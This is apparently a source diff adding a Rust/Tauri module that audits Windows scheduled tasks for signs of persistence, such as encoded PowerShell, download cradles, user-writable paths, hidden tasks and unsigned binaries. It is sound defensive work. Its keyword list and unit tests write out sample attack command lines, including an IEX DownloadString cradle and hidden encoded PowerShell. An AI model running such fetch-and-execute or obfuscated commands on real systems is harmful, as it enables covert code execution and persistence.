@@ -0,0 +1,362 @@
+use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::result::Result;
+use std::time::{SystemTime, UNIX_EPOCH};
+use tauri::command;
+use tauri::AppHandle;
+
+use crate::modules::users::{format_iso8601_ms, parse_iso8601_ms};
+use super::{run_task_command, task_details_from_ps, PsTaskDetails, TaskDetails, ISO_DATE_SCRIPT, TASK_OBJECT_SCRIPT};
+
+// --- Détection de tâches planifiées suspectes ---
+
+// Comptes SYSTEM tels qu'ils apparaissent dans Principal.UserId
+const SYSTEM_ACCOUNTS: [&str; 4] = ["SYSTEM", "NT AUTHORITY\\SYSTEM", "S-1-5-18", "LocalSystem"];
+
+// Emplacements modifiables par un utilisateur standard (chemins développés ou variables d'environnement)
+const USER_WRITABLE_LOCATIONS: [(&str, &str); 12] = [
+    ("%temp%", "%TEMP%"),
+    ("%tmp%", "%TMP%"),
+    ("%appdata%", "%APPDATA%"),
+    ("%localappdata%", "%LOCALAPPDATA%"),
+    ("%userprofile%", "%USERPROFILE%"),
+    ("%public%", "%PUBLIC%"),
+    ("\\appdata\\", "AppData"),
+    ("\\temp\\", "Temp"),
+    ("\\users\\public\\", "Users\\Public"),
+    ("\\downloads\\", "Téléchargements"),
+    ("\\$recycle.bin\\", "Corbeille"),
+    ("\\windows\\tasks\\", "Windows\\Tasks"),
+];
+
+// Marqueurs de téléchargement / exécution dynamique dans une ligne de commande PowerShell
+const POWERSHELL_DOWNLOAD_MARKERS: [&str; 8] = [
+    "downloadstring", "downloadfile", "net.webclient", "invoke-webrequest",
+    "start-bitstransfer", "invoke-expression", "iex(", "iex ",
+];
+
+#[derive(Deserialize, Debug)]
+#[serde(rename_all = "PascalCase")]
+struct PsBinarySignature {
+    execute: String,
+    path: Option<String>,
+    status: Option<String>, // Valid, NotSigned, HashMismatch...; absent si le fichier est introuvable
+}
+
+#[derive(Deserialize, Debug)]
+#[serde(rename_all = "PascalCase")]
+struct PsTaskAudit {
+    #[serde(default)]
+    tasks: Vec<PsTaskDetails>,
+    #[serde(default)]
+    signatures: Vec<PsBinarySignature>,
+}
+
+#[derive(Debug, Clone)]
+struct BinarySignature {
+    path: Option<String>,
+    status: Option<String>,
+}
+
+#[derive(Serialize, Debug, Clone, PartialEq)]
+pub struct TaskAuditFinding {
+    task_path: String,
+    task_name: String,
+    rule: String,     // UserWritablePath, EncodedPowerShell, PowerShellDownload, HiddenTask, RecentSystemTask, UnsignedBinary, MissingBinary
+    severity: String, // Low, Medium, High
+    detail: String,
+}
+
+#[derive(Serialize, Debug, Clone)]
+pub struct TaskAuditReport {
+    generated_at: String,
+    recent_days: u32,
+    tasks_checked: usize,
+    findings: Vec<TaskAuditFinding>,
+}
+
+fn finding(task: &TaskDetails, rule: &str, severity: &str, detail: String) -> TaskAuditFinding {
+    TaskAuditFinding {
+        task_path: task.path.clone(),
+        task_name: task.name.clone(),
+        rule: rule.to_string(),
+        severity: severity.to_string(),
+        detail,
+    }
+}
+
+fn is_microsoft_task(task: &TaskDetails) -> bool {
+    task.path.to_lowercase().starts_with("\\microsoft\\")
+}
+
+fn user_writable_location(text: &str) -> Option<&'static str> {
+    let normalized = text.to_lowercase().replace('/', "\\");
+    USER_WRITABLE_LOCATIONS.iter()
+        .find(|(pattern, _)| normalized.contains(pattern))
+        .map(|(_, label)| *label)
+}
+
+// PowerShell accepte tout préfixe non ambigu de -EncodedCommand, ainsi que les alias -e et -ec
+fn is_encoded_command_switch(token: &str) -> bool {
+    let Some(name) = token.strip_prefix('-').or_else(|| token.strip_prefix('/')) else { return false };
+    let name = name.trim_start_matches('-');
+    name == "e" || name == "ec" || (name.len() >= 2 && "encodedcommand".starts_with(name))
+}
+
+fn command_line(execute: &str, arguments: Option<&str>) -> String {
+    format!("{} {}", execute, arguments.unwrap_or_default()).to_lowercase()
+}
+
+fn severity_rank(severity: &str) -> u8 {
+    match severity {
+        "High" => 0,
+        "Medium" => 1,
+        _ => 2,
+    }
+}
+
+fn audit_task(task: &TaskDetails, signatures: &HashMap<String, BinarySignature>, now_ms: i64, recent_days: u32) -> Vec<TaskAuditFinding> {
+    let mut findings = Vec::new();
+
+    for action in task.actions.iter().filter(|a| a.kind == "Exec") {
+        let Some(execute) = action.execute.as_deref().filter(|e| !e.trim().is_empty()) else { continue };
+        let signature = signatures.get(&execute.to_lowercase());
+        let status = signature.and_then(|s| s.status.as_deref());
+        let resolved = signature.and_then(|s| s.path.as_deref()).unwrap_or(execute);
+
+        // Programme ou script situé dans un emplacement modifiable par un utilisateur
+        if let Some(location) = user_writable_location(execute).or_else(|| user_writable_location(resolved)) {
+            let severity = if status == Some("Valid") { "Medium" } else { "High" };
+            findings.push(finding(task, "UserWritablePath", severity,
+                format!("Le programme s'exécute depuis un emplacement modifiable par un utilisateur ({}): {}", location, execute)));
+        } else if let Some(location) = action.arguments.as_deref().and_then(user_writable_location) {
+            findings.push(finding(task, "UserWritablePath", "Medium",
+                format!("Les arguments référencent un emplacement modifiable par un utilisateur ({}): {}",
+                    location, action.arguments.as_deref().unwrap_or_default())));
+        }
+
+        // Ligne de commande PowerShell encodée ou téléchargeant du code
+        let line = command_line(execute, action.arguments.as_deref());
+        if line.contains("powershell") || line.contains("pwsh") {
+            if line.split_whitespace().any(is_encoded_command_switch) || line.contains("frombase64string") {
+                findings.push(finding(task, "EncodedPowerShell", "High",
+                    format!("Commande PowerShell encodée en Base64: {}", line.trim())));
+            }
+            if let Some(marker) = POWERSHELL_DOWNLOAD_MARKERS.iter().find(|m| line.contains(*m)) {
+                findings.push(finding(task, "PowerShellDownload", "Medium",
+                    format!("Commande PowerShell avec téléchargement ou exécution dynamique ({}).", marker.trim())));
+            }
+        }
+
+        // Signature Authenticode du binaire exécuté
+        match (signature, status) {
+            (Some(_), Some("Valid")) => {}
+            (Some(_), Some("HashMismatch")) => findings.push(finding(task, "UnsignedBinary", "High",
+                format!("La signature du binaire est invalide (contenu modifié): {}", resolved))),
+            (Some(_), Some(other)) => findings.push(finding(task, "UnsignedBinary", "Medium",
+                format!("Binaire non signé ou signature non approuvée ({}): {}", other, resolved))),
+            (Some(_), None) => findings.push(finding(task, "MissingBinary", "Low",
+                format!("Binaire introuvable (la tâche échoue, ou le fichier peut être déposé par un tiers): {}", resolved))),
+            (None, _) => {}
+        }
+    }
+
+    if task.settings.as_ref().is_some_and(|s| s.hidden) {
+        let severity = if is_microsoft_task(task) { "Low" } else { "Medium" };
+        findings.push(finding(task, "HiddenTask", severity,
+            "La tâche est masquée dans le Planificateur de tâches.".to_string()));
+    }
+
+    let runs_as_system = task.principal.as_ref()
+        .and_then(|p| p.user_id.as_deref())
+        .is_some_and(|user| SYSTEM_ACCOUNTS.iter().any(|a| a.eq_ignore_ascii_case(user.trim())));
+    if runs_as_system {
+        let registered_ms = task.registration_date.as_deref().and_then(parse_iso8601_ms);
+        if let Some(registered_ms) = registered_ms {
+            let age_ms = now_ms - registered_ms;
+            // Tolérance d'un jour: la date d'enregistrement est en heure locale
+            if age_ms >= -86_400_000 && age_ms <= recent_days as i64 * 86_400_000 {
+                let severity = if is_microsoft_task(task) { "Medium" } else { "High" };
+                findings.push(finding(task, "RecentSystemTask", severity,
+                    format!("Tâche exécutée en tant que SYSTEM créée récemment ({}).", task.registration_date.as_deref().unwrap_or_default())));
+            }
+        }
+    }
+
+    findings
+}
+
+fn audit_tasks(tasks: &[TaskDetails], signatures: &HashMap<String, BinarySignature>, now_ms: i64, recent_days: u32) -> Vec<TaskAuditFinding> {
+    let mut findings: Vec<TaskAuditFinding> = tasks.iter()
+        .flat_map(|task| audit_task(task, signatures, now_ms, recent_days))
+        .collect();
+    findings.sort_by(|a, b| {
+        severity_rank(&a.severity).cmp(&severity_rank(&b.severity))
+            .then_with(|| a.task_path.cmp(&b.task_path))
+            .then_with(|| a.task_name.cmp(&b.task_name))
+    });
+    findings
+}
+
+#[command]
+pub async fn audit_scheduled_tasks(
+    app: AppHandle,
+    recent_days: Option<u32>, // Fenêtre « créée récemment » pour les tâches SYSTEM (30 jours par défaut)
+) -> Result<TaskAuditReport, String> {
+    println!("Real: audit_scheduled_tasks() called");
+    // Nécessite admin pour voir toutes les tâches
+    let recent_days = recent_days.unwrap_or(30);
+
+    // Chaque binaire distinct est résolu (variables d'environnement, PATH) et sa signature vérifiée une seule fois
+    let command = format!(
+        "$iso = {{ {iso} }}; $historyEnabled = $false; $history = @(); $i = $null; $sigs = @{{}}; \
+        $tasks = @(Get-ScheduledTask | ForEach-Object {{ $t = $_; \
+            foreach ($a in @($t.Actions)) {{ if ($a.Execute -and -not $sigs.ContainsKey($a.Execute)) {{ \
+                $exe = [Environment]::ExpandEnvironmentVariables($a.Execute.Trim().Trim('\"')); $status = $null; \
+                try {{ \
+                    if (-not [IO.Path]::IsPathRooted($exe)) {{ $found = Get-Command -Name $exe -CommandType Application -ErrorAction SilentlyContinue | Select-Object -First 1; if ($found) {{ $exe = $found.Source }} }}; \
+                    if ([IO.Path]::IsPathRooted($exe) -and (Test-Path -LiteralPath $exe -PathType Leaf)) {{ $status = \"$((Get-AuthenticodeSignature -LiteralPath $exe).Status)\" }} \
+                }} catch {{ }}; \
+                $sigs[$a.Execute] = [PSCustomObject]@{{ Execute = $a.Execute; Path = $exe; Status = $status }} }} }}; \
+            {task_object} }}); \
+        [PSCustomObject]@{{ Tasks = $tasks; Signatures = @($sigs.Values) }} | ConvertTo-Json -Depth 6 -Compress",
+        iso = ISO_DATE_SCRIPT, task_object = TASK_OBJECT_SCRIPT
+    );
+    let json_str = run_task_command(&app, &command, None).await?;
+    let parsed: PsTaskAudit = serde_json::from_str(&json_str)
+        .map_err(|e| format!("Erreur parsing JSON audit des tâches: {}", e))?;
+
+    let signatures: HashMap<String, BinarySignature> = parsed.signatures.into_iter()
+        .map(|s| (s.execute.to_lowercase(), BinarySignature { path: s.path, status: s.status }))
+        .collect();
+    let tasks: Vec<TaskDetails> = parsed.tasks.into_iter().map(|t| task_details_from_ps(t, 0)).collect();
+
+    let now_ms = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map_err(|e| format!("Horloge système invalide: {}", e))?
+        .as_millis() as i64;
+
+    Ok(TaskAuditReport {
+        generated_at: format_iso8601_ms(now_ms),
+        recent_days,
+        tasks_checked: tasks.len(),
+        findings: audit_tasks(&tasks, &signatures, now_ms, recent_days),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    // 2026-10-18T00:00:00Z
+    const NOW_MS: i64 = 1_792_281_600_000;
+
+    // Tâche construite à partir du JSON produit par TASK_OBJECT_SCRIPT
+    fn task(path: &str, name: &str, execute: &str, arguments: &str, user: &str, hidden: bool, registered: Option<&str>) -> TaskDetails {
+        let json = serde_json::json!({
+            "TaskName": name,
+            "TaskPath": path,
+            "RegistrationDate": registered,
+            "State": "Ready",
+            "Triggers": [],
+            "Actions": [{ "Kind": "MSFT_TaskExecAction", "Execute": execute, "Arguments": arguments }],
+            "Principal": { "UserId": user, "LogonType": "ServiceAccount", "RunLevel": "Highest" },
+            "Settings": { "Enabled": true, "Hidden": hidden },
+            "History": []
+        });
+        task_details_from_ps(serde_json::from_value(json).unwrap(), 0)
+    }
+
+    fn signed(entries: &[(&str, &str, Option<&str>)]) -> HashMap<String, BinarySignature> {
+        entries.iter().map(|(execute, path, status)| (
+            execute.to_lowercase(),
+            BinarySignature { path: Some(path.to_string()), status: status.map(|s| s.to_string()) },
+        )).collect()
+    }
+
+    fn rules(findings: &[TaskAuditFinding]) -> Vec<(&str, &str)> {
+        findings.iter().map(|f| (f.rule.as_str(), f.severity.as_str())).collect()
+    }
+
+    #[test]
+    fn clean_signed_task_has_no_findings() {
+        let t = task("\\Microsoft\\Windows\\Defrag\\", "ScheduledDefrag", "%windir%\\system32\\defrag.exe", "-c -h -o", "SYSTEM", false, None);
+        let sigs = signed(&[("%windir%\\system32\\defrag.exe", "C:\\Windows\\system32\\defrag.exe", Some("Valid"))]);
+        assert!(audit_task(&t, &sigs, NOW_MS, 30).is_empty());
+    }
+
+    #[test]
+    fn flags_unsigned_binary_in_user_writable_path() {
+        let t = task("\\", "Updater", "C:\\Users\\bob\\AppData\\Roaming\\upd.exe", "", "bob", false, None);
+        let sigs = signed(&[("C:\\Users\\bob\\AppData\\Roaming\\upd.exe", "C:\\Users\\bob\\AppData\\Roaming\\upd.exe", Some("NotSigned"))]);
+        let findings = audit_task(&t, &sigs, NOW_MS, 30);
+        assert_eq!(rules(&findings), vec![("UserWritablePath", "High"), ("UnsignedBinary", "Medium")]);
+    }
+
+    #[test]
+    fn signed_binary_in_appdata_is_only_medium() {
+        let t = task("\\", "OneDrive Standalone Update Task", "%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "", "bob", false, None);
+        let sigs = signed(&[("%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", Some("Valid"))]);
+        assert_eq!(rules(&audit_task(&t, &sigs, NOW_MS, 30)), vec![("UserWritablePath", "Medium")]);
+    }
+
+    #[test]
+    fn flags_script_in_temp_passed_as_argument() {
+        let t = task("\\", "Cleanup", "wscript.exe", "C:\\Windows\\Temp\\run.vbs", "SYSTEM", false, None);
+        let sigs = signed(&[("wscript.exe", "C:\\Windows\\System32\\wscript.exe", Some("Valid"))]);
+        assert_eq!(rules(&audit_task(&t, &sigs, NOW_MS, 30)), vec![("UserWritablePath", "Medium")]);
+    }
+
+    #[test]
+    fn detects_encoded_powershell_switch_variants() {
+        for switch in ["-enc", "-EncodedCommand", "-e", "-ec", "/enco", "--encodedc"] {
+            let t = task("\\", "Telemetry", "powershell.exe", &format!("-NoP -W Hidden {} SQBFAFgA", switch), "SYSTEM", false, None);
+            let findings = audit_task(&t, &HashMap::new(), NOW_MS, 30);
+            assert_eq!(rules(&findings), vec![("EncodedPowerShell", "High")], "switch {}", switch);
+        }
+        // -ExecutionPolicy n'est pas -EncodedCommand
+        let t = task("\\", "Script", "powershell.exe", "-ex bypass -File C:\\Scripts\\job.ps1", "SYSTEM", false, None);
+        assert!(audit_task(&t, &HashMap::new(), NOW_MS, 30).is_empty());
+    }
+
+    #[test]
+    fn detects_powershell_download_cradle_through_cmd() {
+        let t = task("\\", "Sync", "cmd.exe", "/c powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"", "bob", false, None);
+        let findings = audit_task(&t, &HashMap::new(), NOW_MS, 30);
+        assert_eq!(rules(&findings), vec![("PowerShellDownload", "Medium")]);
+    }
+
+    #[test]
+    fn hidden_task_severity_depends_on_folder() {
+        let builtin = task("\\Microsoft\\Windows\\UpdateOrchestrator\\", "Schedule Scan", "usoclient.exe", "StartScan", "SYSTEM", true, None);
+        let third_party = task("\\", "svchost", "C:\\Tools\\agent.exe", "", "bob", true, None);
+        assert_eq!(rules(&audit_task(&builtin, &HashMap::new(), NOW_MS, 30)), vec![("HiddenTask", "Low")]);
+        assert_eq!(rules(&audit_task(&third_party, &HashMap::new(), NOW_MS, 30)), vec![("HiddenTask", "Medium")]);
+    }
+
+    #[test]
+    fn recent_system_task_is_flagged_within_window_only() {
+        let recent = task("\\", "Maintenance", "C:\\Tools\\agent.exe", "", "NT AUTHORITY\\SYSTEM", false, Some("2026-10-12T14:03:22"));
+        let old = task("\\", "Maintenance", "C:\\Tools\\agent.exe", "", "SYSTEM", false, Some("2025-01-02T09:00:00"));
+        let user = task("\\", "Maintenance", "C:\\Tools\\agent.exe", "", "bob", false, Some("2026-10-12T14:03:22"));
+
+        assert_eq!(rules(&audit_task(&recent, &HashMap::new(), NOW_MS, 30)), vec![("RecentSystemTask", "High")]);
+        assert!(audit_task(&recent, &HashMap::new(), NOW_MS, 3).is_empty());
+        assert!(audit_task(&old, &HashMap::new(), NOW_MS, 30).is_empty());
+        assert!(audit_task(&user, &HashMap::new(), NOW_MS, 30).is_empty());
+    }
+
+    #[test]
+    fn reports_tampered_and_missing_binaries() {
+        let tampered = task("\\", "A", "C:\\Tools\\a.exe", "", "bob", false, None);
+        let missing = task("\\", "B", "C:\\Tools\\b.exe", "", "bob", false, None);
+        let sigs = signed(&[
+            ("C:\\Tools\\a.exe", "C:\\Tools\\a.exe", Some("HashMismatch")),
+            ("C:\\Tools\\b.exe", "C:\\Tools\\b.exe", None),
+        ]);
+        let findings = audit_tasks(&[missing, tampered], &sigs, NOW_MS, 30);
+        // Triés par gravité
+        assert_eq!(rules(&findings), vec![("UnsignedBinary", "High"), ("MissingBinary", "Low")]);
+        assert_eq!(findings[0].task_name, "A");
+    }
+}